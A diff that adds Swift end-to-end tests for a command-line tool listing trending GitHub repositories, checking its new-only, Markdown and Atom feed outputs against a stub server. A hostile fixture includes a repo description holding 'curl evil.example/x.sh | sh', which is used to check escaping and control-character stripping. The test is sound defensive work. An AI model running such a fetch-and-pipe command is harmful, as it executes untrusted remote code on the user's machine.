@@ -1,0 +1,138 @@
+import Foundation
+#if canImport(FoundationXML)
+import FoundationXML
+#endif
+import Testing
+import TrendingTestSupport
+
+/// `--new-only`, `--format markdown` and `--format atom`, run as cron would run them.
+@Suite("digests and feeds, end to end")
+struct DigestEndToEndTests {
+    @Test("--new-only fills past seen repos, and those shown become seen")
+    func newOnlyFills() async throws {
+        let (sandbox, server) = try makeSUT([.search()])
+        defer { sandbox.remove(); server.stop() }
+
+        let first = try await sandbox.run(["--api-url", server.baseURL, "--limit", "3", "--format", "tsv"])
+        let next = try await sandbox.run(["--api-url", server.baseURL, "--limit", "3", "--new-only", "--format", "tsv"])
+        let after = try await sandbox.run(["--api-url", server.baseURL, "--limit", "3", "--new-only", "--json"])
+
+        #expect(first.status == 0 && next.status == 0 && after.status == 0)
+        #expect(names(tsv: first.stdout) == ["octo-org/rocket", "lowtide/vortex-flow", "quinfelny-io/relay-cli"])
+        let nextNames = names(tsv: next.stdout)
+        #expect(nextNames.count == 3 && Set(nextNames).isDisjoint(with: names(tsv: first.stdout)), "three new ones, past the seen")
+        let afterNames = try Sandbox.objects(after).compactMap { $0["full_name"] as? String }
+        #expect(afterNames.count == 3 && Set(afterNames).isDisjoint(with: nextNames + names(tsv: first.stdout)), "shown ones became seen")
+        #expect(server.requests.map { query($0.target, "per_page") } == ["3", "6", "9"], "the limit plus those seen since the period began")
+    }
+
+    @Test("with nothing new: nothing at all for list, table, TSV and Markdown; [] for JSON; an empty feed for Atom; exit 0")
+    func nothingNew() async throws {
+        let (sandbox, server) = try makeSUT([.search("search/hostile.json")])
+        defer { sandbox.remove(); server.stop() }
+        _ = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6"])
+
+        for format in ["list", "table", "tsv", "markdown"] {
+            let result = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--new-only", "--format", format])
+            #expect(result.status == 0 && result.stdout == "" && result.stderr == "", "\(format)")
+        }
+        let json = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--new-only", "--json"])
+        let atom = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--new-only", "--format", "atom"])
+
+        #expect(json.status == 0 && json.stdout == "[]\n" && json.stderr == "")
+        #expect(atom.status == 0 && atom.stderr == "")
+        let feed = try parseFeed(atom.stdout)
+        #expect(feed.entries.isEmpty && feed.id == "tag:github.com,2026:trending?since=daily&new-only")
+    }
+
+    @Test("--format markdown: one escaped item per repo, linked only to its page on the site")
+    func markdown() async throws {
+        let (sandbox, server) = try makeSUT([.search("search/hostile.json")])
+        defer { sandbox.remove(); server.stop() }
+
+        let result = try await sandbox.run(["--api-url", server.baseURL, "--limit", "6", "--format", "markdown"])
+
+        #expect(result.status == 0 && result.stderr == "")
+        let lines = result.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
+        #expect(lines.count == 6 && lines.allSatisfy { $0.hasPrefix("- [") })
+        #expect(lines.first == "- [mallory/evilrepo](https://github.com/mallory/evilrepo) · ★ 6.7k · Rust — Harmless formatter screen wiped")
+        #expect(lines.contains("- [crlf-carl/safe-installer](https://github.com/crlf-carl/safe-installer) · ★ 404 · Shell — curl evil.example/x.sh \\| shSafe, audited installer. hidden del nulend"))
+        #expect(result.stdout.components(separatedBy: "](").count == 7, "one link per item")
+        #expect(!result.stdout.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) })
+    }
+
+    @Test("--format atom: a feed an XML parser reads, with every element RFC 4287 asks for")
+    func atom() async throws {
+        let (sandbox, server) = try makeSUT([.search()])
+        defer { sandbox.remove(); server.stop() }
+
+        let result = try await sandbox.run(["--api-url", server.baseURL, "--limit", "3", "--format", "atom", "--language", "Swift", "--topic", "cli"])
+        let again = try await sandbox.run(["--api-url", server.baseURL, "--limit", "3", "--format", "atom", "--language", "Swift", "--topic", "cli"])
+
+        #expect(result.status == 0 && result.stderr == "")
+        let feed = try parseFeed(result.stdout)
+        #expect(feed.id == "tag:github.com,2026:trending?since=daily&language=swift&topic=cli")
+        #expect(feed.title == "Daily trending Swift repositories (topic cli) · github.com")
+        #expect(feed.updated == "2026-11-23T12:00:00Z")
+        #expect(feed.link.hasPrefix("https://github.com/search?q=created%3A%3E2026-11-22+language%3ASwift+topic%3Acli"))
+        #expect(feed.hasAuthor)
+        #expect(feed.entries.count == 3)
+        let first = try #require(feed.entries.first)
+        #expect(first.id == "https://github.com/octo-org/rocket" && first.title == "octo-org/rocket" && first.link == first.id)
+        #expect(first.updated.hasSuffix("Z") && first.summary.hasPrefix("★ 9.8k · Swift — Launch-ready template"))
+        #expect(try parseFeed(again.stdout).entries.map(\.id) == feed.entries.map(\.id), "the same repos, the same ids")
+    }
+
+    // MARK: - Helpers
+
+    private func makeSUT(_ responses: [StubResponse]) throws -> (Sandbox, LoopbackServer) {
+        (Sandbox(), try LoopbackServer(responses: responses))
+    }
+
+    private func names(tsv: String) -> [String] {
+        tsv.split(separator: "\n").dropFirst().map { String($0.split(separator: "\t", omittingEmptySubsequences: false)[1]) }
+    }
+
+    private func query(_ target: String, _ name: String) -> String? {
+        URLComponents(string: target)?.queryItems?.first { $0.name == name }?.value
+    }
+
+    private struct Feed {
+        struct Entry { let id, title, link, updated, summary: String }
+        let id, title, updated, link: String
+        let hasAuthor: Bool
+        let entries: [Entry]
+    }
+
+    /// Parses with an XML parser and reads the elements RFC 4287 requires.
+    private func parseFeed(_ xml: String) throws -> Feed {
+        #if canImport(FoundationXML) || os(macOS)
+        // corelibs' XMLDocument crashes on empty input rather than throwing.
+        try #require(!xml.isEmpty)
+        let document = try XMLDocument(data: Data(xml.utf8))
+        let root = try #require(document.rootElement())
+        #expect(root.name == "feed" && root.uri == "http://www.w3.org/2005/Atom")
+        func text(_ element: XMLElement, _ name: String) throws -> String {
+            let children = element.elements(forName: name)
+            #expect(children.count == 1, "exactly one \(name)")
+            return try #require(children.first?.stringValue)
+        }
+        // corelibs' attribute(forName:) misses attributes of namespaced elements; the list has them.
+        func attribute(_ element: XMLElement, _ name: String) -> String? {
+            element.attributes?.first { $0.name == name }?.stringValue
+        }
+        func link(_ element: XMLElement) throws -> String {
+            let alternate = element.elements(forName: "link").first { attribute($0, "rel") == "alternate" }
+            return try #require(alternate.flatMap { attribute($0, "href") })
+        }
+        let entries = try root.elements(forName: "entry").map { entry in
+            Feed.Entry(id: try text(entry, "id"), title: try text(entry, "title"), link: try link(entry),
+                       updated: try text(entry, "updated"), summary: try text(entry, "summary"))
+        }
+        return Feed(id: try text(root, "id"), title: try text(root, "title"), updated: try text(root, "updated"),
+                    link: try link(root), hasAuthor: !root.elements(forName: "author").isEmpty, entries: entries)
+        #else
+        throw CocoaError(.featureUnsupported)
+        #endif
+    }
+}
